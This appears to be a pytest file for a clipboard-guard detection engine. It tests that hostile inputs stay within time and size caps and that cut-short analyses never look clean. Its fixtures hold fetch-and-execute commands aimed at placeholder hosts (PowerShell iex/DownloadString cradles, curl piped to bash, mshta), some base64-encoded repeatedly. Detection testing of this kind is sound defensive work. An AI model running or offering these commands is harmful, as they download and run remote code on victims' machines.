"""Hostile inputs: text made to stall or crash the engine stays within its budget and caps.

The guard computes its verdict when the clipboard changes; a page that can make analysis slow
can make the guard late, and an analysis that gives up must never look clean (fail closed).

What is asserted here cannot depend on the machine's speed or load (HOUSE-STYLE: no wall-clock
asserts in unit tests): the engine's clocks are replaced by one that counts its looks, so a
test says at which look the budget runs out. Each hostile input is read with a budget that
never runs out (what it costs is then bounded by the caps alone) and with one that runs out at
the first look and halfway (each stage stops at its next look and the verdict is incomplete and
never clean). The 100 ms each of these takes on a quiet machine is
measured by bench/hostile.py (`python -m bench detection.hostile`), which reads them all.
"""

from __future__ import annotations

import base64
import functools
import random
import time
import types
from collections.abc import Callable

import pytest

from app.detection import Context, Engine, Level, Verdict, blobs, datalines, noise, rules, windows
from app.detection import engine as engine_module
from app.detection.engine import DEEP_CAP, MAX_INTERPRETED, MAX_LAYERS
from app.detection.interpret import budget as interpret_budget
from app.detection.interpret import grammar

MiB = 1024 * 1024
INCOMPLETE = "PG-ENGINE-INCOMPLETE"

CRADLE = (
    'powershell -nop -w hidden -c "iex (New-Object Net.WebClient)'
    ".DownloadString('http://evil{n}.test/a.ps1')\""
)


def nest_base64(text: str, times: int) -> str:
    for _ in range(times):
        text = base64.b64encode(text.encode()).decode()
    return text


def fill(unit: str, size: int = MiB) -> str:
    return (unit * (size // len(unit) + 1))[:size]


def _nested_cradles() -> str:
    """About 1 MiB of distinct PowerShell cradles, each base64-encoded 10 times over."""
    blobs: list[str] = []
    size = 0
    n = 0
    while size < MiB:
        blob = nest_base64(CRADLE.format(n=n), 10)
        blobs.append(blob)
        size += len(blob) + 1
        n += 1
    return "\n".join(blobs)[:MiB]


def _urls() -> str:
    return " ".join(f"https://h{i}.ex/{i}" for i in range(40_000))  # 0.9 MiB


def _random_ascii() -> str:
    rng = random.Random(2)
    return "".join(rng.choices([chr(c) for c in range(32, 127)], k=MiB))


def _random_unicode() -> str:
    """Any code point except surrogates, with bidi controls and combining marks thrown in."""
    rng = random.Random(3)
    pool = [chr(rng.randrange(0x20, 0x110000)) for _ in range(6000)]
    pool = [c for c in pool if not 0xD800 <= ord(c) <= 0xDFFF]
    pool += [chr(c) for c in range(0x300, 0x370)] * 8  # combining diacritical marks
    pool += list("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f") * 40
    return "".join(rng.choices(pool, k=MiB))


# cmd variables and PowerShell's format operator are expanded statically; one short reference
# can stand for 200 characters, and a format string repeats its arguments up to 40 times.
FORMAT_BOMB = '("' + "{0}" * 40 + "\" -f '" + "%x%" * 26 + "')"


def _expansion_bomb(size: int = MiB) -> str:
    return "set x=" + "A" * 200 + "&&" + fill("%x%", size - 208)


def _format_bomb(size: int = MiB) -> str:
    return "set x=" + "A" * 200 + "&&" + fill(FORMAT_BOMB + ";", size - 208)


def _distinct_encoded_commands() -> str:
    """A different encoded command on every line: far more live blobs than windows."""
    lines = (
        "powershell -enc "
        + base64.b64encode(CRADLE.format(n=n).encode("utf-16-le")).decode()
        + "\n"
        for n in range(3000)
    )
    return "".join(lines)[:MiB]


def _digest_lines(make: Callable[[int], str]) -> str:
    return "".join(make(n) for n in range(20_000))[:MiB]


def _lock_row(n: int) -> str:
    digest = base64.b64encode(random.Random(n).randbytes(64)).decode()
    return f'  "node_modules/p{n}": {{"integrity": "sha512-{digest}"}},\n'


def _sums_row(n: int) -> str:
    return f"{random.Random(n).randbytes(32).hex()}  dist/file-{n}.tar.gz\n"


HOSTILE: dict[str, Callable[[], str]] = {
    "distinct encoded commands": _distinct_encoded_commands,
    "a lockfile of integrity digests": lambda: _digest_lines(_lock_row),
    "SHA-256 sums": lambda: _digest_lines(_sums_row),
    "carets": lambda: fill("^"),
    "parentheses": lambda: fill("("),
    "backticks": lambda: fill("`"),
    "double quotes": lambda: fill('"'),
    "single quotes": lambda: fill("'"),
    "zero-width spaces": lambda: fill("\u200b"),
    "NUL bytes": lambda: fill("\x00"),
    "base64 nested 10 deep": lambda: nest_base64(CRADLE.format(n=0), 10),
    "1 MiB of base64 nested 10 deep": _nested_cradles,
    "40,000 URLs": _urls,
    "random printable ASCII": _random_ascii,
    "random Unicode, bidi, combining": _random_unicode,
    "one line of A": lambda: fill("A"),
    "powershell -enc": lambda: fill("powershell -enc "),
    "set a=b&&": lambda: fill("set a=b&&"),
    "nested $( ( [ {": lambda: fill("$( ( [ {"),
    "homoglyph command words": lambda: fill("сurl "),  # Cyrillic с
    "Unicode spaces in a command": lambda: fill("curl\u2003"),
    "set variable expansion": _expansion_bomb,
    "format operator of variables": _format_bomb,
}


@functools.cache
def hostile(name: str) -> str:
    return HOSTILE[name]()


class Looks:
    """Every clock an analysis keeps its budget by (the engine's, the rules', the windows',
    the noise and blob weighing's, the interpreters' and the parser's), counting its looks.
    Until `spent_after` looks (None: never) it stands still; after, each look is a million
    seconds on, so every deadline set so far is past, and so is every one set from then."""

    def __init__(self) -> None:
        self.looks = 0
        self.spent_after: int | None = None

    def __call__(self) -> float:
        self.looks += 1
        if self.spent_after is None or self.looks <= self.spent_after:
            return 0.0
        return 1e6 * self.looks

    def run_out_after(self, looks: int | None) -> None:
        self.looks = 0
        self.spent_after = looks


@pytest.fixture
def looks(monkeypatch: pytest.MonkeyPatch) -> Looks:
    clock = Looks()
    for module in (engine_module, rules, windows, noise, datalines, blobs):
        monkeypatch.setattr(module, "budget_clock", clock)
    monkeypatch.setattr(interpret_budget, "_clock", clock)
    # the tree-sitter parse reads the thread's CPU time itself
    monkeypatch.setattr(
        grammar, "time", types.SimpleNamespace(perf_counter=time.perf_counter, thread_time=clock)
    )
    # no wall-clock shortcut skips a look (while less wall time has passed than a budget,
    # its CPU clock is not read: budget.WALL_MARGIN_S)
    for module in (engine_module, interpret_budget, grammar):
        monkeypatch.setattr(module, "WALL_MARGIN_S", 1e9)
    return clock


@pytest.fixture(scope="module", autouse=True)
def _warm(engine: Engine) -> None:
    engine.analyze(nest_base64(CRADLE.format(n=0), 2))


# Each stage of an analysis (choosing windows, weighing runs, blanking noise, decoding,
# matching rules, interpreting) looks at the clock before it goes on; once the budget has run
# out, what is left is a look per stage at most, never one per window, blob or chunk.
LOOKS_PAST_THE_BUDGET = 10


def fails_closed(verdict: Verdict) -> bool:
    return verdict.level >= Level.SUSPICIOUS and INCOMPLETE in verdict.rule_ids


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_input_is_bounded_by_caps_and_stops_when_its_budget_runs_out(
    engine: Engine, looks: Looks, name: str
) -> None:
    text = hostile(name)
    assert len(text) <= MiB

    # a budget that never runs out: what the text can make the engine do is bounded by the
    # caps alone (layers, interpreted readings, the text decoded in depth)
    looks.run_out_after(None)
    whole = engine.examine(text)
    reading, all_looks = whole.analysis, looks.looks
    assert len(reading.layers) <= MAX_LAYERS
    assert reading.interpretations <= MAX_INTERPRETED
    assert max(len(layer.text) for layer in reading.layers[1:] or reading.layers) <= 2 * DEEP_CAP
    assert "time budget" not in reading.incomplete_reason
    verdict = engine.in_context(whole, Context())
    assert isinstance(verdict.level, Level) and verdict.summary.strip()
    if not verdict.complete:
        assert fails_closed(verdict), (name, reading.incomplete_reason)

    # the budget running out at the first look (each stage's first) and halfway
    for at in sorted({0, all_looks // 2}):
        looks.run_out_after(at)
        verdict = engine.analyze(text)
        assert verdict.complete is False, (name, at, all_looks)
        assert fails_closed(verdict), (name, at, verdict.rule_ids)
        assert verdict.summary.strip()
        assert looks.looks - at <= LOOKS_PAST_THE_BUDGET, (name, at, looks.looks)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_input_gets_a_verdict_that_fails_closed_on_the_real_clock(
    engine: Engine, name: str
) -> None:
    # the clocks as the guard has them: finished or cut short by the machine's speed, the
    # verdict is one the warning can show, and never clean when cut short
    verdict = engine.analyze(hostile(name))
    assert isinstance(verdict, Verdict) and isinstance(verdict.level, Level)
    assert verdict.summary.strip()
    if not verdict.complete:
        assert fails_closed(verdict)


@pytest.mark.parametrize("make", [_expansion_bomb, _format_bomb], ids=["variables", "format"])
def test_a_small_expansion_bomb_expands_within_the_caps(
    engine: Engine, looks: Looks, make: Callable[[int], str]
) -> None:
    # A few KiB that expand to megabytes when variables are substituted: the expansion must be
    # bounded by the interpreters' caps, not by the clock, or any web page can make the guard
    # late. With a budget that never runs out, every reading stays within them.
    text = make(4096)
    looks.run_out_after(None)
    reading = engine.examine(text).analysis
    largest = max(len(layer.text) for layer in reading.layers)
    assert largest <= 2 * DEEP_CAP, f"{len(text)} characters; largest layer {largest} characters"
    assert len(reading.layers) <= MAX_LAYERS
    assert reading.complete, reading.incomplete_reason


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(fill("Meeting notes: the budget was approved. ", 3 * MiB), id="3 MiB prose"),
        pytest.param(fill("A", 3 * MiB), id="3 MiB of A"),
        pytest.param(
            fill(" ", 3 * MiB - 100) + "mshta https://evil.test/a.hta", id="3 MiB padding"
        ),
        pytest.param(fill("\n", 2 * MiB) + "curl https://evil.test/x | sh", id="2 MiB newlines"),
    ],
)
def test_text_beyond_the_cap_is_incomplete_and_never_clean(engine: Engine, text: str) -> None:
    # Whatever lies past the first MiB is never read, so the verdict cannot vouch for it.
    verdict = engine.analyze(text)
    assert verdict.complete is False
    assert verdict.level >= Level.SUSPICIOUS
    assert INCOMPLETE in verdict.rule_ids


def test_bytes_beyond_the_cap_are_incomplete_and_never_clean(engine: Engine) -> None:
    verdict = engine.analyze(fill("harmless words ", 3 * MiB).encode())
    assert verdict.complete is False
    assert verdict.level >= Level.SUSPICIOUS
    assert INCOMPLETE in verdict.rule_ids


@pytest.mark.parametrize("times", [5, 6, 10])
@pytest.mark.parametrize(
    "text", [CRADLE.format(n=1), "echo a friendly note about the weekly meeting"]
)
def test_text_encoded_more_than_4_times_is_incomplete_and_never_clean(
    engine: Engine, text: str, times: int
) -> None:
    verdict = engine.analyze(nest_base64(text, times))
    assert verdict.complete is False
    assert verdict.level >= Level.SUSPICIOUS
    assert INCOMPLETE in verdict.rule_ids


@pytest.mark.parametrize("times", [1, 2, 3, 4])
def test_a_cradle_encoded_up_to_4_times_is_decoded_and_found(engine: Engine, times: int) -> None:
    plain = engine.analyze(CRADLE.format(n=1))
    payload_rules = set(plain.rule_ids)
    assert payload_rules, "the cradle itself must be found"
    verdict = engine.analyze(nest_base64(CRADLE.format(n=1), times))
    assert verdict.complete is True
    assert verdict.level >= Level.SUSPICIOUS
    assert payload_rules & set(verdict.rule_ids)


HARMLESS_LINE = (
    "Meeting notes, 3 March: the budget for the new office chairs was approved. "
    "Anna books the room for Thursday; please bring your laptops.\n"
)


@pytest.mark.parametrize(
    "payload",
    [
        'powershell -w hidden -c "iex(irm https://evil.test/a.ps1)"',
        "mshta https://evil.test/verify.hta",
        "curl -fsSL https://evil.test/install.sh | bash",
        'conhost --headless powershell -c "iwr http://1.2.3.4/x.ps1 | iex"',
    ],
)
def test_a_payload_after_900_kib_of_harmless_text_is_still_found(
    engine: Engine, payload: str
) -> None:
    padding = fill(HARMLESS_LINE, 900 * 1024)
    alone = engine.analyze(payload)
    assert alone.level >= Level.SUSPICIOUS
    # The payload must bring its own findings, not ride on the padding's (which is clean
    # unless the time budget runs out on a loaded machine: test_windows.py checks that).
    padding_rules = set(engine.analyze(padding).rule_ids)
    verdict = engine.analyze(padding + "\n" + payload)
    assert verdict.level >= Level.SUSPICIOUS
    found = set(verdict.rule_ids) - padding_rules
    assert found & set(alone.rule_ids), f"payload findings {alone.rule_ids}, got {verdict.rule_ids}"


class _Ticks:
    """A budget clock that moves one second at each look: a test says after how many looks
    the deadline is past, whatever the machine's speed."""

    def __init__(self) -> None:
        self.looks = 0

    def __call__(self) -> float:
        self.looks += 1
        return float(self.looks)


def test_a_long_chunk_stops_between_its_patterns_once_past_the_deadline(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    # random text holds the atoms of dozens of patterns: each is a full search of the chunk,
    # so waiting for the chunk's end let one chunk run ~40 ms past the budget
    text = _random_ascii()[:60_000]
    everything, finished = engine.rules.hits(text)
    assert finished and len(everything) > 3
    clock = _Ticks()
    monkeypatch.setattr("app.detection.rules.budget_clock", clock)
    # before the chunk, before each set of the patterns with no atom, before the first filter
    passes = 1 + len(engine.rules._always_sets) + 1
    found, finished = engine.rules.hits(text, deadline=passes + 2.0)
    assert not finished
    assert clock.looks == passes + 3  # ... then after each of three candidate patterns
    assert found < everything


def test_a_long_chunk_stops_between_its_passes_once_past_the_deadline(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    # each pass of a set over a chunk is one call no clock can stop: on 64 KiB of random
    # ASCII whose RE2 states were not built yet, one set of ~21 patterns took 52 ms
    text = _random_ascii()[:60_000]
    clock = _Ticks()
    monkeypatch.setattr("app.detection.rules.budget_clock", clock)
    found, finished = engine.rules.hits(text, deadline=2.0)
    assert not finished
    assert clock.looks == 3  # before the chunk, before the first set, before the second
    assert found <= engine.rules.hits(text[:60_000])[0]


def test_a_long_text_met_past_the_deadline_is_not_begun_and_fails_closed(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.detection.rules.budget_clock", lambda: float("inf"))
    assert engine.rules.hits(_random_ascii()[:20_000], deadline=0.0) == (frozenset(), False)
    verdict = engine.analyze(fill("harmless words ", MiB // 2))
    assert not verdict.complete and verdict.level >= Level.SUSPICIOUS
    assert INCOMPLETE in verdict.rule_ids
